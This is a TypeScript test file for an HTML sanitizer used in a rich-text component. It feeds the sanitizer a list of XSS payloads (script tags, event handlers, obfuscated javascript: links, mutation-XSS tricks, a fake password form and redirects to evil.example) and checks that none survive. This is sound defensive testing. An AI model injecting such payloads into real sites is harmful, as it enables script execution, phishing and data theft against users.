import { act, fireEvent, screen } from '@testing-library/react'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { renderScreen } from '../../testing/render-screen.tsx'
import { alignedByData, alignedByStyle, withoutStyles } from './alignment.ts'
import { cleanHtml } from './clean-html.ts'
import { RichText } from './rich-text.tsx'

const picture = '/wlm-api/apigb/v1/content/image/0123abcd.webp'

describe('attackers’ markup runs nothing', () => {
  const hostile = [
    '<svg><script>window.__pwn=1</script></svg>',
    '<svg onload="window.__pwn=1"><circle></svg>',
    '<a href="javascript:window.__pwn=1">x</a>',
    '<a href="jav&#x09;ascript:window.__pwn=1">x</a>',
    '<a href="&#1;javascript:window.__pwn=1">x</a>',
    '<a href="data:text/html,<script>window.__pwn=1</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
    '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
    '<img src=x onerror=window.__pwn=1>',
    '<img src="https://evil.example/track.png">',
    '<img src="data:image/svg+xml,<svg onload=1>">',
    `<img src="${picture}/../../../lmcp/lianmeng/auth/logout">`,
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p onclick="window.__pwn=1" class="card" data-x="1" aria-label="1">x</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1>',
    '<form action="https://evil.example"><input name=password><button>登录</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="x"></object><embed src="x"><link rel="stylesheet" href="https://evil.example">',
    '<template><script>window.__pwn=1</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>"></noscript>',
    '<video src=x onerror=window.__pwn=1></video><audio src=x onerror=window.__pwn=1></audio>',
    '<details open ontoggle=window.__pwn=1>x</details>',
    '<p id="cookie">x</p><h2 id="cookie">x</h2>',
  ]
  test.each(hostile)('%s', (html) => {
    const holder = document.createElement('div')
    holder.innerHTML = cleanHtml(html)
    const left = [...holder.querySelectorAll('*')]
    const names = left.map(({ localName }) => localName)
    expect(names.filter((name) => !['p', 'a', 'h2', 'table', 'tbody', 'tr', 'td', 'span'].includes(name))).toEqual([])
    expect(left.flatMap((element) => element.getAttributeNames())).toEqual([])
    expect('__pwn' in window).toBe(false)
  })

  test('whatever the text is, cleaning it again changes nothing', () => {
    const piece = fc.constantFrom(...hostile, '<h2 id="一">', '</h2>', '<p style="text-align:right">', '<', '"', '文字')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const once = cleanHtml(pieces.join(''))
        expect(cleanHtml(once)).toBe(once)
      }),
      { numRuns: 60 },
    )
  })
})

test.each([
  '<h2 id="拆包价">拆包价</h2><h3 id="a">甲</h3><h4>乙</h4>',
  '<p data-align="center"><strong>粗</strong><em>斜</em><u>线</u><s>删</s><code>M8</code></p>',
  '<ul><li><p>一</p></li></ul><ol><li><p>三</p></li></ol><blockquote><p>引</p></blockquote><hr>',
  '<table><tbody><tr><th colspan="2">规格</th><td rowspan="2">M8</td></tr></tbody></table>',
  '<pre><code>GB/T 5782</code></pre>',
  '<p><a href="/lmPortals/productList?keyword=M8">看商品</a><a href="#拆包价">上面</a><a href="tel:057388888888">电话</a></p>',
])('markup made by the editor stays as it is: %s', (html) => {
  expect(cleanHtml(html)).toBe(html)
})

test('a kept text and the text of the page turn into each other', () => {
  const kept = '<h2 id="a" style="text-align: right;">甲</h2><p style="text-align: center;">乙 style="x"</p>'
  const shown = '<h2 id="a" data-align="right">甲</h2><p data-align="center">乙 style="x"</p>'
  expect(alignedByData(kept)).toBe(shown)
  expect(alignedByStyle(shown)).toBe(kept)
})

test('pasted text keeps its alignment only', () => {
  expect(withoutStyles(`<p style="color: red; text-align: right">甲<b style='font-size: 9pt'>乙</b></p>`)).toBe(
    '<p data-align="right">甲<b>乙</b></p>',
  )
})

test('a style keeps its alignment only', () => {
  expect(cleanHtml('<p style="color:red;text-align:center;position:fixed">x</p>')).toBe('<p data-align="center">x</p>')
})

test('own pictures load when they are scrolled to', () => {
  expect(cleanHtml(`<img src="${picture}" alt="包装">`)).toBe(`<img src="${picture}" alt="包装" loading="lazy">`)
})

test.each([
  ['https://example.com/a', true],
  ['/lmPortals/home', false],
  ['http://localhost:3000/lmPortals/home', false],
])('only links out of the product open beside it: %s', (href, isOut) => {
  const holder = document.createElement('div')
  holder.innerHTML = cleanHtml(`<a href="${href}" target="_top" rel="opener">x</a>`)
  const link = holder.querySelector('a')
  expect(link?.getAttribute('target')).toBe(isOut ? '_blank' : null)
  expect(link?.getAttribute('rel')).toBe(isOut ? 'noopener noreferrer nofollow' : null)
})

test.each(['//evil.example', '/\\evil.example'])('%s is no path of the product', (href) => {
  expect(cleanHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>')
})

test('a link within the product does not load the page again', async () => {
  const { router } = await renderScreen(
    <RichText html='<a href="/lmPortals/productList?keyword=M8#b">看商品</a><a href="/lmPortals/home">首页</a>' />,
  )
  await act(async () => void fireEvent.click(screen.getByText('看商品')))
  expect(router.state.location.href).toBe('/lmPortals/productList?keyword=M8#b')
  expect(fireEvent.click(screen.getByText('首页'), { ctrlKey: true })).toBe(true)
})
